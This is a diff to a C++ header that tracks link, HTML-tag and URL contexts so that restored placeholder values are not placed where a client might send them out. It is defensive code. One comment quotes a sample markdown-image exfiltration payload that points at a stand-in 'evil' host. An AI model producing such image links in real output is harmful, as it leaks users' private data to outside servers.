@@ -11,8 +11,8 @@ namespace edgedraft {
 
 // A text that came with placeholders, as its reader is to see it: what they stand for in their
 // place, but where a reader's program might send it on by itself. A hostile target would write
-// ![](https://evil/?[NAME_001]). So within links, tags of HTML, and whatever contains "://"
-// placeholders stay as they are, and so do those that were never given out.
+// ![](https://evil/?[NAME_001]). So within links, tags of HTML, and whatever contains "//" or
+// "https:" placeholders stay as they are, and so do those that were never given out.
 class RestoredText {
  public:
   // Values of more bytes together stay placeholders: a hostile target repeats the longest.
@@ -38,20 +38,36 @@ class RestoredText {
   const std::string& text() const { return shown_; }
 
  private:
-  // Where the text stands, as a reader's program would see it.
+  // Where the text stands, as a reader's program would see it. It follows placeholders and not what
+  // they became: a client that sends the text back tells which of them stayed.
   struct Place {
+    enum class TagPart : unsigned char {
+      name,
+      gap,               // before an attribute
+      attribute,         // its name
+      behind_attribute,  // blanks behind that
+      value_begin,       // behind '=': here alone a quotation mark opens a value
+      value,             // one without quotation marks
+    };
+
     char before = '\n';
+    char line_last = 0;  // the line's last character that is no blank; 0: none
     bool in_tag = false;
-    char quote = 0;               // around an attribute
-    int target_depth = 0;         // parentheses of a Markdown link's target; 0: none
-    bool target_angled = false;   // it is <...>
-    bool in_definition = false;   // of a link: [name]: target
-    bool line_begun = false;      // with more than blanks and marks of quotations and lists
-    bool line_has_label = false;  // it begins with '['
-    bool word_links = false;      // it contains "//", or begins with "www."
-    std::string word_begin;       // its first characters
+    TagPart tag_part = TagPart::name;
+    char quote = 0;                 // around an attribute's value
+    bool tag_has_quotes = false;    // anywhere
+    bool tag_in_doubt = false;      // readers may see another end of it, or another tag in it
+    int target_depth = 0;           // parentheses of a Markdown link's target; 0: none
+    bool target_angled = false;     // it may be within <...>
+    bool in_definition = false;     // of a link: [name]: target
+    bool definition_begun = false;  // its target
+    bool in_sentence = false;       // directly behind a value that stands behind a word
+    bool word_links = false;        // it contains "//", "http:", "https:" or "www."
+    std::string word_tail;          // its last characters
 
     void take(char c);
+    void take_in_tag(char c);
+    bool is_behind_word() const;
     bool may_be_sent_on() const {
       return in_tag || target_depth > 0 || in_definition || word_links;
     }
